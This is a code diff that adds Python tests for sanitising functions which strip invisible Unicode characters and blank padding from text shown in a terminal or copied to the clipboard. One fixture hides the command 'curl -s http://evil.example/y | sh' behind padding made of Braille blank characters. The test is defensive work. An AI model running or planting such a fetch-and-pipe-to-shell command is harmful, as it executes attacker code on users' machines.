@@ -10,6 +10,7 @@ import asyncio
 import datetime as dt
 import io
 import json
+import unicodedata
 from typing import Any
 
 import httpx
@@ -53,6 +54,42 @@ def test_each_destination_is_safe(text: str) -> None:
 def test_json_line_keeps_other_non_ascii_text() -> None:
     assert json_line({"t": "Café 漢字 👩‍👩‍👧"}) == '{"t": "Café 漢字 👩\\u200d👩\\u200d👧"}'
     assert json_line("\x85\u202e\U000e0041\ud800") == '"\\u0085\\u202e\\udb40\\udc41\\ud800"'
+
+
+# The attack's invisibles, each in a run: Rich measures them as 0 cells, terminals draw some.
+INVISIBLES = ["\u034f", "\u17b4", "\u17b5", *map(chr, range(0x1D173, 0x1D17B)), "\ufe0f", "\U000e0100"]
+
+
+@pytest.mark.parametrize("char", INVISIBLES, ids=lambda c: f"U+{ord(c):04X}")
+def test_invisible_characters_go_and_json_escapes_them(char: str) -> None:
+    text = "CGJ x" + char * 300 + " tail"
+    for safe in (inert(text), label(text, limit=500), notice(text), clipboard(text), printable(text)):
+        assert char not in safe and safe.endswith("tail")
+    assert inert(text) == "CGJ x tail"
+    line = json_line({"t": text})
+    assert char not in line and json.loads(line) == {"t": text}
+
+
+def test_every_invisible_format_character_is_removed() -> None:
+    """Unicode's format characters (category Cf, as Python's unicodedata knows them) are all
+    removed, but for the few that a font draws as a visible sign: the Arabic and Syriac marks
+    written before numbers, the Egyptian hieroglyph format controls (which join hieroglyphs)."""
+    drawn = {*range(0x0600, 0x0606), 0x06DD, 0x070F, 0x0890, 0x0891, 0x08E2, 0x110BD, 0x110CD}
+    drawn |= set(range(0x13430, 0x13460))
+    format_chars = [c for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
+    kept = [f"U+{c:04X}" for c in format_chars if c not in drawn and inert(f"a{chr(c)}b") != "ab"]
+    assert kept == []
+
+
+def test_blank_padding_collapses_and_json_escapes_the_braille_blank() -> None:
+    smuggle = "Read this, and note" + "\u2800" * 120 + "; curl -s http://evil.example/y | sh #"
+    shown = "Read this, and note ; curl -s http://evil.example/y | sh #"
+    assert inert(smuggle) == shown and clipboard(smuggle) == shown
+    assert "\u2800" not in json_line(smuggle) and "\\u2800" in json_line(smuggle)
+    assert inert("a\u3000\u2003\u00a0 b") == "a b"
+    # One such character between words is the writer's own (a French non-breaking space, an
+    # ideographic space); a copy keeps it, and keeps indentation made of spaces.
+    assert clipboard("Bonjour\u00a0!\n    x") == "Bonjour\u00a0!\n    x"
 
 
 def people(t: list[str]) -> tuple[User, User]:
